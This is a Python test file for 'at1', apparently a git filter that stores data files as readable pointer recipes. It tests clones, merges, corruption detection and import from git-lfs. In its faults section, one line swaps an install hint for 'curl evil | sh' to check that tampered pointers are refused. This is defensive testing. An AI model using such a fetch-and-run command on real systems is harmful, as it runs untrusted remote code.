"""The checks of scripts/peer-git: git_filter.py AT1

at1 as a filter of git, by git itself.
"""
import json
import os
import shutil
import signal
import subprocess
import time

import numpy as np

from git_box import ENVIRONMENT, WORK, call, clean, count_with, drawn, git, kept, ok, same
from harness import Checks, noise

checks = Checks()
check = count_with(checks)

DATA = WORK / "data"
BARE = WORK / "bare.git"
BYTES = noise(300_000, 5)


def setting_up():
    git(WORK, "init", "-q", "-b", "main", str(DATA))
    ok(DATA, "at1", "git", "install")
    ok(DATA, "at1", "git", "track", "*.npy", "*.bin", "a b/**")
    check("track lists", ok(DATA, "at1", "git", "track").split("\n")[:3] == ["*.npy", "*.bin", "a b/**"])
    for seed in range(4):
        np.save(DATA / f"{seed}.npy", drawn(seed))
    (DATA / "noise.bin").write_bytes(BYTES)
    (DATA / "short.bin").write_bytes(noise(300, 6))
    (DATA / "middle.bin").write_bytes(noise(5000, 7))
    (DATA / "empty.bin").write_bytes(b"")
    (DATA / "a b").mkdir()
    (DATA / "a b" / "ü.bin").write_bytes(noise(100_000, 8))
    (DATA / "plain.txt").write_text("not filtered\n")
    git(DATA, "add", ".")
    git(DATA, "commit", "-q", "-m", "first")
    check("nothing is changed", clean(DATA))
    pointer = kept(DATA, "HEAD", "0.npy")
    check("a recipe is a few hundred readable bytes", pointer.startswith(b"at1 pointer 1\n") and len(pointer) < 700
          and b"pip install at1" in pointer and b'"seed":0' in pointer, pointer)
    check("bytes are a pointer to an object", b'"kind":"blob"' in kept(DATA, "HEAD", "noise.bin"))
    check("what is short stays", kept(DATA, "HEAD", "middle.bin") == noise(5000, 7) and kept(DATA, "HEAD", "empty.bin") == b"")
    report = {one["path"]: one["kept_as"] for one in json.loads(ok(DATA, "at1", "git", "status", "--json"))}
    check("at1 git status", (report["0.npy"], report["noise.bin"], report["middle.bin"]) == ("recipe", "object", "bytes"), report)
    verdict = json.loads(ok(DATA, "at1", "git", "fsck", "--json"))
    check("at1 git fsck", verdict["ok"] and verdict["recipes"] == 4 and verdict["objects"] == 2, verdict)


def clones():
    git(WORK, "clone", "-q", "--bare", str(DATA), str(BARE))
    store = WORK / "objects"
    ok(WORK, "at1", "init", "-q", "--bare", str(store))
    ok(DATA, "at1", "git", "push", str(store))
    check("a second push has nothing to do", json.loads(ok(DATA, "at1", "git", "push", str(store), "--json"))["objects"] == 0)
    refused = call(WORK, "git", "clone", "-q", str(BARE), str(WORK / "refused"))
    check("a checkout stops where bytes are missing", refused.returncode != 0 and "its bytes are missing" in refused.stderr
          and "hint: " in refused.stderr, refused.stderr)
    near = WORK / "near"
    git(WORK, "clone", "-q", "-c", f"at1.remote={store}", str(BARE), str(near))
    check("a clone executes recipes and fetches bytes", same(DATA, near) and clean(near))
    again = call(near, "git", "add", "--renormalize", ".")
    check("renormalizing changes nothing", again.returncode == 0 and clean(near), again.stderr)
    bare = WORK / "without"
    call(WORK, "git", "-c", "filter.at1.process=", "-c", "filter.at1.required=false", "clone", "-q", str(BARE), str(bare))
    check("without at1 the pointers are text", (bare / "0.npy").read_bytes() == kept(DATA, "HEAD", "0.npy"))
    partial = WORK / "partial"
    git(WORK, "-c", "protocol.file.allow=always", "clone", "-q", "--filter=blob:none", "-c", f"at1.remote={store}",
        f"file://{BARE}", str(partial))
    check("a partial clone", same(DATA, partial))
    sparse = WORK / "sparse"
    git(WORK, "clone", "-q", "--sparse", "-c", f"at1.remote={store}", str(BARE), str(sparse))
    check("a sparse checkout leaves folders away", not (sparse / "a b").exists() and (sparse / "0.npy").exists())
    git(sparse, "sparse-checkout", "add", "a b")
    check("and brings them", (sparse / "a b" / "ü.bin").read_bytes() == noise(100_000, 8))
    np.save(near / "near.npy", drawn(77))
    (near / "near.bin").write_bytes(noise(200_000, 9))
    git(near, "add", ".")
    git(near, "commit", "-q", "-m", "near")
    ok(near, "at1", "git", "push")
    git(near, "push", "-q", "origin", "main")
    (DATA / "far.bin").write_bytes(noise(200_000, 10))
    git(DATA, "add", ".")
    git(DATA, "commit", "-q", "-m", "far")
    ok(DATA, "at1", "git", "push", str(store))
    git(DATA, "config", "at1.remote", str(store))
    git(DATA, "pull", "-q", "--no-rebase", "--no-edit", str(BARE), "main")
    check("two sides that push objects are joined", (DATA / "near.bin").read_bytes() == noise(200_000, 9) and clean(DATA))
    git(DATA, "push", "-q", str(BARE), "main")
    far = WORK / "elsewhere"
    git(WORK, "clone", "-q", "-c", f"at1.remote={store}", str(BARE), str(far))
    check("a clone elsewhere", same(DATA, far) and clean(far))


def branches():
    git(DATA, "switch", "-q", "-c", "side")
    np.save(DATA / "0.npy", drawn(100))
    git(DATA, "commit", "-q", "-a", "-m", "another seed")
    diff = git(DATA, "diff", "HEAD~1", "--", "0.npy")
    check("git diff shows the parameter", '-parameter   "seed" 0' in diff and '+parameter   "seed" 100' in diff, diff)
    git(DATA, "switch", "-q", "main")
    check("a branch switch", np.array_equal(np.load(DATA / "0.npy"), drawn(0)) and clean(DATA))
    np.save(DATA / "0.npy", drawn(0, 300))
    git(DATA, "commit", "-q", "-a", "-m", "more rows")
    git(DATA, "merge", "-q", "--no-edit", "side")
    merged = np.load(DATA / "0.npy")
    check("git merge merges recipes by parameter", np.array_equal(merged, drawn(100, 300)) and clean(DATA))
    git(DATA, "switch", "-q", "-c", "left")
    np.save(DATA / "1.npy", drawn(201))
    git(DATA, "commit", "-q", "-a", "-m", "left")
    git(DATA, "switch", "-q", "-c", "right", "main")
    np.save(DATA / "1.npy", drawn(202))
    git(DATA, "commit", "-q", "-a", "-m", "right")
    conflict = call(DATA, "git", "merge", "left")
    check("two seeds are a conflict", conflict.returncode == 1 and "1.npy" in conflict.stdout + conflict.stderr, conflict.stderr)
    git(DATA, "checkout", "-q", "--theirs", "1.npy")
    check("which is resolved by choosing one", np.array_equal(np.load(DATA / "1.npy"), drawn(201)))
    git(DATA, "add", "1.npy")
    git(DATA, "commit", "-q", "-m", "resolved")
    git(DATA, "switch", "-q", "-c", "topic", "main")
    np.save(DATA / "2.npy", drawn(302))
    git(DATA, "commit", "-q", "-a", "-m", "topic")
    git(DATA, "rebase", "-q", "right")
    check("a rebase", np.array_equal(np.load(DATA / "2.npy"), drawn(302)) and np.array_equal(np.load(DATA / "1.npy"), drawn(201)))
    np.save(DATA / "3.npy", drawn(303))
    git(DATA, "stash", "-q")
    check("a stash takes the change away", np.array_equal(np.load(DATA / "3.npy"), drawn(3)))
    git(DATA, "stash", "pop", "-q")
    check("and brings it back", np.array_equal(np.load(DATA / "3.npy"), drawn(303)))
    git(DATA, "checkout", "-q", "--", ".")
    place = WORK / "worktree"
    git(DATA, "worktree", "add", "-q", str(place), "side")
    check("another working tree", np.array_equal(np.load(place / "0.npy"), drawn(100)) and clean(place))
    with open(DATA / "plain.txt", "a") as file:
        file.write("more\n")
    np.save(DATA / "3.npy", drawn(304))
    done = subprocess.run(["git", "add", "-p"], cwd=DATA, env=ENVIRONMENT, input="y\n" * 5, capture_output=True, text=True)
    check("git add -p", done.returncode == 0 and "plain.txt" in git(DATA, "diff", "--cached", "--name-only"), done.stderr)
    git(DATA, "reset", "-q", "--hard")
    check("a hard reset", clean(DATA) and np.array_equal(np.load(DATA / "3.npy"), drawn(3)))


def faults():
    place = WORK / "faults"
    git(WORK, "clone", "-q", "-c", f"at1.remote={WORK / 'objects'}", str(BARE), str(place))
    for pack in (place / ".git" / "at1" / "store" / "packs").glob("*.pack"):
        data = bytearray(pack.read_bytes())
        for index in range(4096, len(data) - 4096, 4096):
            data[index] ^= 1
        os.chmod(pack, 0o600)
        pack.write_bytes(data)
    (place / "noise.bin").unlink()
    done = call(place, "git", "checkout", "--", "noise.bin")
    check("a damaged object stops the checkout", done.returncode != 0 and "at1: error: noise.bin" in done.stderr
          and not (place / "noise.bin").exists(), done.stderr)
    verdict = call(place, "at1", "git", "fsck", "--json")
    problems = json.loads(verdict.stdout)["problems"]
    check("fsck finds it", verdict.returncode == 1 and any(one["path"] == "noise.bin" for one in problems), problems)
    pointer = kept(DATA, "main", "2.npy").replace(b'"seed":2', b'"seed":5')
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=place, env=ENVIRONMENT, input=pointer, capture_output=True)
    git(place, "update-index", "--cacheinfo", f"100644,{blob.stdout.decode().strip()},2.npy")
    done = call(place, "git", "checkout", "--", "2.npy")
    check("a recipe that gives something else stops it", done.returncode != 0 and "SHA-256" in done.stderr
          and not (place / "2.npy").exists(), done.stderr)
    changed = kept(DATA, "main", "2.npy").replace(b"pip install at1", b"curl evil | sh")
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=place, env=ENVIRONMENT, input=changed, capture_output=True)
    git(place, "update-index", "--cacheinfo", f"100644,{blob.stdout.decode().strip()},2.npy")
    done = call(place, "git", "checkout", "--", "2.npy")
    check("a pointer with other words stops it", done.returncode != 0 and "the pointer was changed" in done.stderr, done.stderr)
    for words in (["at1", "git", "status"], ["at1", "git", "filter-process"], ["at1", "git", "push"]):
        done = call(WORK, *words)
        check(f"{' '.join(words)} outside a repository", done.returncode == 2 and "not a git repository" in done.stderr, done.stderr)


def many_files():
    place = WORK / "many"
    git(WORK, "init", "-q", "-b", "main", str(place))
    ok(place, "at1", "git", "track", "*.npy")
    for seed in range(COUNT):
        folder = place / f"{seed % 50:02}"
        folder.mkdir(exist_ok=True)
        np.save(folder / f"{seed}.npy", drawn(seed % 500 + 1000, 4 + seed // 500))
    # Killed at several times, and gone on with.
    for delay in (0.2, 0.6):
        process = subprocess.Popen(["git", "add", "."], cwd=place, env=ENVIRONMENT, stderr=subprocess.PIPE, start_new_session=True)
        time.sleep(delay)
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
        (place / ".git" / "index.lock").unlink(missing_ok=True)
    start = time.perf_counter()
    git(place, "add", ".")
    added = time.perf_counter() - start
    git(place, "commit", "-q", "-m", "many")
    check("all are recipes", all(kept(place, "HEAD", f"{n % 50:02}/{n}.npy").startswith(b"at1 pointer 1") for n in range(0, COUNT, 97)))
    other = WORK / "many-clone"
    git(WORK, "clone", "-q", "-n", str(place), str(other))
    process = subprocess.Popen(["git", "checkout", "-q", "main"], cwd=other, env=ENVIRONMENT, stderr=subprocess.PIPE, start_new_session=True)
    time.sleep(0.4)
    os.killpg(process.pid, signal.SIGKILL)
    process.communicate()
    (other / ".git" / "index.lock").unlink(missing_ok=True)
    start = time.perf_counter()
    git(other, "reset", "-q", "--hard", "main")
    checked_out = time.perf_counter() - start
    check("a checkout that was killed is gone on with", same(place, other) and clean(other))
    print(f"{COUNT} recipes: git add {added:.2f} s, checkout {checked_out:.2f} s")


def against_lfs():
    """The same files as recipes, and as bytes by git-lfs."""
    times = {}
    for name in ("at1", "lfs"):
        place = WORK / f"race-{name}"
        git(WORK, "init", "-q", "-b", "main", str(place))
        if name == "at1":
            ok(place, "at1", "git", "track", "*.npy")
        else:
            git(place, "lfs", "install", "--local")
            git(place, "lfs", "track", "*.npy")
        for seed in range(40):
            np.save(place / f"{seed}.npy", drawn(seed, 20_000))
        start = time.perf_counter()
        git(place, "add", ".")
        added = time.perf_counter() - start
        git(place, "commit", "-q", "-m", "all")
        for path in place.glob("*.npy"):
            path.unlink()
        start = time.perf_counter()
        git(place, "checkout", "-q", "--", ".")
        checked_out = time.perf_counter() - start
        size = sum(path.stat().st_size for path in (place / ".git").rglob("*") if path.is_file())
        check(f"{name}: nothing is changed", clean(place))
        times[name] = (added, checked_out, size)
    for name, (added, checked_out, size) in times.items():
        print(f"40 arrays of 8 MB, {name}: git add {added:.2f} s, checkout {checked_out:.2f} s, .git {size / 1e6:.2f} MB")
    check("the repository of recipes is 100 times smaller", times["at1"][2] * 100 < times["lfs"][2], times)


def importing():
    """A history of git with merges, tags, links, odd names and git-lfs becomes one of at1."""
    source = WORK / "history"
    git(WORK, "init", "-q", "-b", "trunk", str(source))
    git(source, "lfs", "install", "--local")
    git(source, "lfs", "track", "*.big")
    (source / "large.big").write_bytes(noise(50_000, 20))
    (source / "chunked.dat").write_bytes(noise(3_000_000, 21))
    (source / "deep" / "ü \n").mkdir(parents=True)
    (source / "deep" / "ü \n" / "run.sh").write_text("#!/bin/sh\n")
    (source / "deep" / "ü \n" / "run.sh").chmod(0o755)
    (source / "link").symlink_to("deep/target")
    git(source, "add", ".")
    git(source, "commit", "-q", "-m", "one\n\nbody é", GIT_AUTHOR_NAME="Grace Hopper", GIT_AUTHOR_DATE="1000000000 -0730")
    git(source, "tag", "light")
    git(source, "switch", "-q", "-c", "side")
    for number in range(5):
        (source / f"{number}.txt").write_text(f"{number}\n")
        git(source, "add", ".")
        git(source, "commit", "-q", "-m", f"side {number}")
    git(source, "switch", "-q", "trunk")
    (source / "chunked.dat").write_bytes(noise(3_000_000, 22))
    git(source, "commit", "-q", "-a", "-m", "two")
    git(source, "merge", "-q", "--no-edit", "side")
    git(source, "tag", "-a", "v1", "-m", "first release")
    place = WORK / "imported"
    ok(WORK, "at1", "init", "-q", str(place))
    report = json.loads(ok(place, "at1", "import", "git", str(source), "--json"))
    check("import git", (report["commits"], report["branch"], report["pointers"]) == (8, "trunk", 0), report)

    def files(folder, own):
        return {
            str(path.relative_to(folder)): (os.readlink(path) if path.is_symlink() else path.read_bytes(), path.lstat().st_mode & 0o100)
            for path in folder.rglob("*") if (path.is_symlink() or path.is_file()) and own not in path.relative_to(folder).parts
        }

    check("its files", files(place, ".at1store") == files(source, ".git"))
    log = json.loads(ok(place, "at1", "log", "--json"))
    theirs = git(source, "log", "--date-order", "--format=%an|%ae|%ad|%cd|%s", "--date=raw").splitlines()
    check("authors, dates and messages", sorted(f"{c['author']['name']}|{c['author']['seconds']}|{c['message'].splitlines()[0]}" for c in log)
          == sorted("{0}|{2}|{4}".format(*line.replace(" +0000", "").replace(" -0730", "").split("|")) for line in theirs), theirs)
    check("a merge has two parents", sorted(len(c["parents"]) for c in log) == sorted(
        len(line.split()) - 1 for line in git(source, "rev-list", "--parents", "trunk").splitlines()))
    for revision in ("light", "v1~1", "git/side"):
        names = git(source, "ls-tree", "-r", "-z", "--name-only", revision.replace("git/", "")).split("\0")[:-1]
        listed = json.loads(ok(place, "at1", "ls-tree", "-r", "--json", revision))
        check(f"the tree of {revision}", [one["path"] for one in listed] == names, listed)
    check("an annotated tag", json.loads(ok(place, "at1", "show", "v1", "--json"))["message"] == "first release\n")
    check("fsck", json.loads(ok(place, "at1", "fsck", "--json"))["ok"])
    again = json.loads(ok(place, "at1", "import", "git", str(source), "--json"))
    check("again, nothing is new", again["refs"] == [], again)
    check("and nothing is read", (again["commits"], again["trees"], again["files"]) == (0, 0, 0), again)
    git(source, "commit", "-q", "--allow-empty", "-m", "three")
    more = json.loads(ok(place, "at1", "import", "git", str(source), "--json"))
    check("what is new comes", more["refs"] == ["refs/remotes/git/trunk"] and (more["commits"], more["trees"]) == (1, 0), more)
    far = WORK / "by-url"
    ok(WORK, "at1", "init", "-q", str(far))
    for _ in range(2):
        copied = json.loads(ok(far, "at1", "import", "git", f"file://{source}", "--json"))
        check("from a URL, where git-lfs's files are not", (copied["commits"], copied["pointers"]) == (9, 1), copied)
    incremental(source, place)
    check("a pointer of git-lfs stays one", (far / "large.big").read_bytes().startswith(b"version https://git-lfs"))
    one = WORK / "one-branch"
    ok(WORK, "at1", "init", "-q", str(one))
    ok(one, "at1", "import", "git", "--branch", "side", str(source))
    check("one branch", (one / "4.txt").exists() and json.loads(ok(one, "at1", "tag", "--json"))[0]["name"] == "light")
    for words, code in ((["--branch", "no", str(source)], 2), ([str(WORK / "home")], 2), ([str(WORK / "nowhere")], 2)):
        check(f"import git {words[-1]}", call(one, "at1", "import", "git", *words).returncode == code)
    shallow = WORK / "shallow"
    git(WORK, "clone", "-q", "--depth", "1", f"file://{source}", str(shallow))
    done = call(one, "at1", "import", "git", str(shallow))
    check("a shallow clone is refused", done.returncode == 2 and "shallow" in done.stderr, done.stderr)


def incremental(source, place):
    """Another import reads what is new, and gives what a first one would."""
    (source / "deep" / "more.txt").write_text("more\n")
    git(source, "add", ".")
    git(source, "commit", "-q", "-m", "four")
    git(source, "switch", "-q", "-c", "old", "v1~1")
    (source / "late.txt").write_text("late\n")
    git(source, "add", ".")
    git(source, "commit", "-q", "-m", "from an old commit")
    git(source, "switch", "-q", "trunk")
    more = json.loads(ok(place, "at1", "import", "git", str(source), "--json"))
    check("two commits", (more["commits"], more["files"], more["forced"]) == (2, 2, []), more)
    fresh = WORK / "fresh"
    ok(WORK, "at1", "init", "-q", str(fresh))
    ok(fresh, "at1", "import", "git", str(source))

    def refs(folder):
        return {one["name"]: one["id"] for one in json.loads(ok(folder, "at1", "for-each-ref", "--json")) if "git/" in one["name"]}

    check("the same objects as at once", refs(place) == refs(fresh), (refs(place), refs(fresh)))
    git(source, "switch", "-q", "old")
    git(source, "commit", "-q", "--amend", "-m", "rewritten")
    git(source, "switch", "-q", "trunk")
    done = call(place, "at1", "import", "git", str(source))
    check("a rewritten branch is a forced update", done.returncode == 0 and "forced update: git/old" in done.stderr, done.stderr)
    # Lines that say something else are not believed.
    record = place / ".at1store" / "mirror" / "imported"
    lines = record.read_text()
    record.write_text(lines.replace("a", "b") + "nonsense\n" + lines[:50])
    again = json.loads(ok(place, "at1", "import", "git", str(source), "--json"))
    check("a damaged record costs time only", again["refs"] == [] and again["commits"] > 5, again)
    check("fsck after all that", json.loads(ok(place, "at1", "fsck", "--json"))["ok"])


def long_history():
    """The second import of a long history takes a fraction of the first."""
    source, place = WORK / "long", WORK / "long-imported"
    git(WORK, "init", "-q", "-b", "main", str(source))
    stream = []
    for number in range(3000):
        data = f"{number}\n"
        stream.append(f"commit refs/heads/main\ncommitter A <a@example.org> {1_700_000_000 + number} +0000\ndata 2\nc\n"
                      f"M 100644 inline d{number % 40}/f{number % 600}\ndata {len(data)}\n{data}\n")
    subprocess.run(["git", "fast-import", "--quiet"], cwd=source, env=ENVIRONMENT, input="".join(stream), text=True, check=True)
    ok(WORK, "at1", "init", "-q", str(place))
    times = []
    for _ in range(2):
        start = time.perf_counter()
        ok(place, "at1", "import", "git", str(source))
        times.append(time.perf_counter() - start)
        git(source, "reset", "-q", "--hard")
        (source / "one.txt").write_text(f"{times}\n")
        git(source, "add", ".")
        git(source, "commit", "-q", "-m", "one more")
    print(f"import of 3,000 commits: {times[0]:.2f} s, then of one more: {times[1]:.2f} s")
    check("much faster", times[1] * 4 < times[0], times)


def taking_it_away():
    ok(DATA, "at1", "git", "uninstall")
    check("git is as it was", call(DATA, "git", "config", "--global", "--get-regexp", "at1").returncode == 1)
    check("twice does no harm", call(DATA, "at1", "git", "uninstall").returncode == 0)


COUNT = int(os.environ.get("AT1_PEER_GIT_FILES", "2000"))
try:
    checks.run(setting_up, clones, branches, faults, importing, long_history, many_files, against_lfs, taking_it_away)
finally:
    shutil.rmtree(WORK, ignore_errors=True)
checks.end()
